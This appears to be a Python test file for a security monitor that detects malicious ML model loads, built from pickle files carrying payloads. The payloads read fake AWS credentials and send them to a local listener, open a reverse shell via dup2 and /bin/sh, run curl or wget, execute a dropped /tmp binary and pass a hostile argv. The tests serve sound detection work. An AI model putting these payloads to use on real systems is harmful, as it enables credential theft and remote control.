"""Payload shapes from real malicious models: in-process network and
credential access (no exec), a reverse shell, downloaders, inline
interpreters, programs run from /tmp, and a hostile argv."""
import os
import shutil

from harness import (ENV_CANARY, Checks, Scenario, TestFailure, check_loader_fields,
                     for_loader, get, is_str_list, real, require_rules, resolved_problem, summary,
                     with_rule)


def test_inprocess_connect_and_credential_read():
    """exec() payload: connect to 127.0.0.1 (external under --internal-net
    10.0.0.0/8), read ~/.aws/credentials and send it. No exec at all."""
    with Scenario("inproc") as sc:
        cred = sc.fake_credentials()
        lst = sc.listener()
        code = ("import socket; s=socket.create_connection(('127.0.0.1', %d)); "
                "s.sendall(open(%r).read().encode()); s.close()") % (lst.port, cred)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        if not lst.wait(1):
            raise TestFailure("payload never connected to the listener")
        want = {"model-loader-external-connect", "model-loader-credential-read"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks(summary(mine))
        c.true(any(b"AKIAFAKEFAKEFAKE0000" in d for d in lst.received),
               "listener did not receive the fake credential")
        execs = [a for a in mine if get(a, "event", "kind") == "exec"]
        c.true(not execs, "exec alerts for an in-process payload: %s" % summary(execs))
        for a in mine:
            check_loader_fields(a, ld.pid, model, "pickle")
            c.eq(get(a, "process", "pid"), ld.pid, "%s process.pid" % a["rule"]["id"])
            c.eq(get(a, "process", "tid"), ld.pid, "%s process.tid (main thread)" % a["rule"]["id"])
            c.eq(real(get(a, "process", "exe")), real("/usr/bin/python3"), "process.exe")
            c.eq(len(a.get("ancestry") or []), 1, "len(ancestry) when the loader acts")
        for a in with_rule(mine, "model-loader-external-connect"):
            ev = a["event"]
            c.eq(ev.get("family"), "inet", "connect family")
            c.eq(ev.get("address"), "127.0.0.1", "connect address")
            c.eq(ev.get("port"), lst.port, "connect port")
            c.eq(ev.get("dest_class"), "external", "dest_class of 127.0.0.1 with --internal-net 10.0.0.0/8")
            if isinstance(ev.get("result"), int):
                c.eq(ev["result"], 0, "connect result")
        for a in with_rule(mine, "model-loader-credential-read"):
            ev = a["event"]
            c.eq(ev.get("path"), cred, "open path")
            rp = resolved_problem(ev.get("resolved_path"), cred, "open resolved_path")
            c.true(rp is None, rp)
            c.true("O_RDONLY" in (ev.get("flags") or []), "open flags %r lack O_RDONLY" % ev.get("flags"))
            c.true(isinstance(ev.get("match"), str) and ev["match"], "open match empty")
            if isinstance(ev.get("result"), int):
                c.true(ev["result"] >= 0, "open result %r < 0" % ev["result"])
        c.done()


# exec() from pickle's REDUCE runs with the loader's globals and a throwaway
# locals dict, so the thread function imports what it uses itself.
REVERSE_SHELL = """
import threading
def _rs():
    import os, socket
    s = socket.create_connection(('127.0.0.1', {port}))
    saved = [os.dup(i) for i in (0, 1, 2)]
    for i in (0, 1, 2):
        os.dup2(s.fileno(), i)
    pid = os.fork()
    if pid == 0:
        os.execv('/bin/sh', ['sh', '-c', 'touch {marker}'])
    for i in (0, 1, 2):
        os.dup2(saved[i], i)
        os.close(saved[i])
    os.waitpid(pid, 0)
    s.close()
t = threading.Thread(target=_rs)
t.start()
t.join()
"""


def test_reverse_shell_shape():
    """A payload thread connects out, dup2s the socket onto 0-2 of the loader,
    and a forked child execs /bin/sh (the goober2 / star23 shape). The
    loader then restores 0-2 from saved, non-socket fds: no alert for that."""
    with Scenario("revshell") as sc:
        marker = sc.path("MARKER")
        lst = sc.listener()
        model = sc.make_model("pickle", "model.pkl",
                              exec_code=REVERSE_SHELL.format(port=lst.port, marker=marker))
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        want = {"model-loader-external-connect", "model-loader-socket-stdio", "model-loader-shell"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks(summary(mine))
        c.true(lst.wait(1), "listener saw no connection")
        for a in mine:
            check_loader_fields(a, ld.pid, model, "pickle")
        conn = with_rule(mine, "model-loader-external-connect")
        dups = with_rule(mine, "model-loader-socket-stdio")
        shells = with_rule(mine, "model-loader-shell")
        for a in conn:
            c.eq(get(a, "event", "address"), "127.0.0.1", "connect address")
            c.eq(get(a, "event", "port"), lst.port, "connect port")
            c.eq(get(a, "event", "dest_class"), "external", "connect dest_class")
            c.eq(get(a, "process", "pid"), ld.pid, "connect process.pid")
            c.true(get(a, "process", "tid") != ld.pid,
                   "connect process.tid %r is the main thread; the payload thread connected"
                   % get(a, "process", "tid"))
        newfds = set()
        for a in dups:
            ev = a["event"]
            newfds.add(ev.get("newfd"))
            c.true(ev.get("newfd") in (0, 1, 2), "dup newfd %r not in 0..2" % ev.get("newfd"))
            c.eq(get(ev, "peer", "port"), lst.port, "dup peer.port (a restore from a non-socket must not alert)")
            c.eq(get(ev, "peer", "address"), "127.0.0.1", "dup peer.address")
            c.eq(get(a, "process", "pid"), ld.pid, "dup process.pid")
            if conn:
                c.eq(get(a, "process", "tid"), get(conn[0], "process", "tid"),
                     "dup tid vs connect tid (same payload thread)")
        c.true(0 in newfds or not dups, "no socket-stdio alert for fd 0 (saw %r)" % sorted(newfds, key=str))
        for a in shells:
            c.eq(get(a, "event", "args"), ["sh", "-c", "touch " + marker], "shell args")
            c.eq(get(a, "process", "ppid"), ld.pid, "shell ppid")
            c.eq([e.get("pid") for e in a.get("ancestry") or []][1:], [ld.pid], "shell ancestry above sh")
        c.done()


def test_inline_interpreter():
    """subprocess.run([python3, -c, CODE]) from the payload (no shell)."""
    with Scenario("inline") as sc:
        marker = sc.path("MARKER")
        inline = "open(%r, 'w').close()" % marker
        code = "import subprocess; subprocess.run(['/usr/bin/python3', '-c', %r], check=True)" % inline
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_rules(ld.pid, {"model-loader-inline-interpreter"})
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-inline-interpreter"})
        c = Checks(summary(mine))
        for a in with_rule(mine, "model-loader-inline-interpreter"):
            check_loader_fields(a, ld.pid, model, "pickle")
            c.eq(get(a, "event", "filename"), "/usr/bin/python3", "event.filename")
            c.eq((get(a, "event", "args") or [])[:2], ["/usr/bin/python3", "-c"], "event.args[:2]")
            c.eq(get(a, "process", "ppid"), ld.pid, "process.ppid")
            c.eq(real(get(a, "process", "exe")), real("/usr/bin/python3"), "process.exe")
        c.done()


def test_downloader():
    """The payload runs `curl --version` (or wget) through PATH, as payloads
    do; glibc tries each PATH directory first. No network is touched."""
    tool = shutil.which("curl", path="/usr/bin:/bin") or shutil.which("wget", path="/usr/bin:/bin")
    if not tool:
        raise TestFailure("neither curl nor wget is installed: add curl to the Makefile's TEST_PKGS")
    name = os.path.basename(tool)
    with Scenario("downloader") as sc:
        marker = sc.path("MARKER")
        code = ("import subprocess; r = subprocess.run([%r, '--version'], stdout=subprocess.DEVNULL); "
                "open(%r, 'w').write(str(r.returncode))") % (name, marker)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_rules(ld.pid, {"model-loader-downloader"})
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-downloader"})
        c = Checks(summary(mine))
        for a in mine:
            check_loader_fields(a, ld.pid, model, "pickle")
        ok = [a for a in with_rule(mine, "model-loader-downloader")
              if real(get(a, "process", "exe")) == real(tool)]
        c.true(ok, "no downloader alert whose process.exe is %s" % tool)
        for a in ok:
            c.eq(get(a, "event", "args"), [name, "--version"], "event.args")
            c.true(str(get(a, "event", "filename")).endswith("/" + name), "event.filename %r" % get(a, "event", "filename"))
            c.eq(get(a, "process", "ppid"), ld.pid, "process.ppid")
        c.done()


def test_exec_from_temp():
    """The payload copies /bin/true into the test dir under /tmp and runs it:
    a program from /tmp, and one the lineage itself just wrote."""
    with Scenario("tmpexec") as sc:
        marker = sc.path("MARKER")
        prog = sc.path("dropped", "helper")
        code = ("import os, shutil, subprocess; os.makedirs(%r, exist_ok=True); "
                "shutil.copy('/bin/true', %r); r = subprocess.run([%r]); "
                "open(%r, 'w').write(str(r.returncode))") % (os.path.dirname(prog), prog, prog, marker)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_rules(ld.pid, {"model-loader-exec-from-temp", "model-loader-exec-dropped"})
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-exec-from-temp",
                                                  "model-loader-exec-dropped"})
        c = Checks(summary(mine))
        for a in with_rule(mine, "model-loader-exec-from-temp"):
            check_loader_fields(a, ld.pid, model, "pickle")
            c.eq(get(a, "event", "filename"), prog, "event.filename")
            c.eq(real(get(a, "process", "exe")), real(prog), "process.exe")
            c.eq(get(a, "process", "ppid"), ld.pid, "process.ppid")
        c.done()


LONG = "A" * 5000
OUTER_HEAD = ": 'line one\nline two' \"double \\\"quoted\\\"\" 'single' "


def hostile_command(marker):
    """Outer sh -c command: newline, quotes, raw invalid UTF-8, a nested
    shell whose argv gets invalid bytes from printf, and 5000 A's."""
    return (OUTER_HEAD.encode() + b"\xff\xfe\x80bad\n"
            b"/bin/sh -c 'touch \"$1\"' inner " + marker.encode()
            + b" \"$(printf '\\377\\376\\200')\" " + LONG.encode() + b"\ntrue\n")


def _arg_problems(args, truncated_flag, expected_prefix_checks, label):
    """args must be strings with no NUL and no environment leak; what is
    there must be a prefix of the real argv (a cut list or a cut last
    element is truncation, anything else is garbage). args_truncated is
    accepted but not required."""
    p = []
    if not is_str_list(args):
        return ["%s %r is not a list of strings" % (label, args)]
    canary = ENV_CANARY.split("=", 1)[1]
    for i, x in enumerate(args):
        if "\x00" in x:
            p.append("%s[%d] contains NUL" % (label, i))
        if canary in x:
            p.append("%s[%d] contains the environment (read past arg_end)" % (label, i))
    p += expected_prefix_checks(args, truncated_flag)
    return p


def test_hostile_argv_stays_valid_json():
    with Scenario("argv") as sc:
        marker = sc.path("MARKER")
        cmd = hostile_command(marker)
        model = sc.make_model("pickle", "model.pkl", system_bytes=cmd)
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_alerts(lambda al: len(with_rule(for_loader(al, ld.pid), "model-loader-shell")) >= 2)
        alerts = sc.stop()        # fails on any line that is not valid JSON / UTF-8
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-shell"})
        c = Checks(summary(mine))

        def flagged(a):
            """True / False when mlwatch says whether args were cut, None if silent."""
            vals = [get(a, k, "args_truncated") for k in ("process", "event")]
            vals = [v for v in vals if v is not None]
            return any(vals) if vals else None

        def outer_checks(args, flag):
            p = []
            if len(args) < 3 or args[:2] != ["sh", "-c"]:
                return ["outer args[:2] %r != ['sh', '-c']" % (args[:2],)]
            if len(args) > 3:
                p.append("outer args has %d elements, want 3" % len(args))
            s = args[2]
            if not s.startswith(OUTER_HEAD):
                p.append("outer command %r lost its newline/quotes (want prefix %r)" % (s[:80], OUTER_HEAD))
                return p
            rest = s[len(OUTER_HEAD):]
            k = rest.find("bad\n/bin/sh")
            if k < 0 and len(s) >= 128:
                p.append("outer command garbled after the invalid bytes: %r" % rest[:40])
            if 0 <= k:
                if k > 16:
                    p.append("invalid bytes rendered as %d chars: %r" % (k, rest[:k]))
                tail = rest[k:]
                full = ("bad\n/bin/sh -c 'touch \"$1\"' inner " + marker
                        + " \"$(printf '\\377\\376\\200')\" " + LONG + "\ntrue\n")
                if not full.startswith(tail):
                    p.append("outer command is not a prefix of the real one after the invalid bytes")
                elif tail != full and flag is False:
                    p.append("outer command cut to %d chars but args_truncated is false" % len(s))
            return p

        def inner_checks(args, flag):
            p = []
            head = ["/bin/sh", "-c", 'touch "$1"', "inner", marker]
            if args[:5] != head:
                return ["inner args[:5] %r != %r" % (args[:5], head)]
            if len(args) > 7:
                p.append("inner args has %d elements, want at most 7: %r" % (len(args), [x[:20] for x in args[7:]]))
            if len(args) >= 6 and (len(args[5]) > 16 or "A" in args[5]):
                p.append("inner args[5] (printf bytes) rendered as %r" % args[5][:40])
            if len(args) >= 7:
                if args[6].strip("A"):
                    p.append("inner args[6] is not all A's: %r" % args[6][:40])
                if len(args[6]) > 5000:
                    p.append("inner args[6] longer than 5000")
            if (len(args) < 7 or len(args[6]) < 5000) and flag is False:
                p.append("inner args cut but args_truncated is false")
            return p

        shells = with_rule(mine, "model-loader-shell")
        outer = [a for a in shells if (get(a, "event", "args") or [None])[:2] == ["sh", "-c"]]
        inner = [a for a in shells if (get(a, "event", "args") or [None])[:1] == ["/bin/sh"]]
        c.true(outer, "no shell alert for the outer sh -c (args %r)"
               % [(get(a, "event", "args") or [""])[:2] for a in shells])
        c.true(inner, "no shell alert for the nested /bin/sh with printf bytes")
        for a in outer:
            c.extend(_arg_problems(get(a, "event", "args"), flagged(a), outer_checks, "event.args"))
            c.extend(_arg_problems(get(a, "process", "args"), flagged(a), outer_checks, "process.args"))
        for a in inner:
            c.extend(_arg_problems(get(a, "event", "args"), flagged(a), inner_checks, "event.args"))
            c.extend(_arg_problems(get(a, "process", "args"), flagged(a), inner_checks, "process.args"))
            c.true(get(a, "ancestry", -1, "pid") == ld.pid, "inner ancestry does not end at the loader")
        c.done()
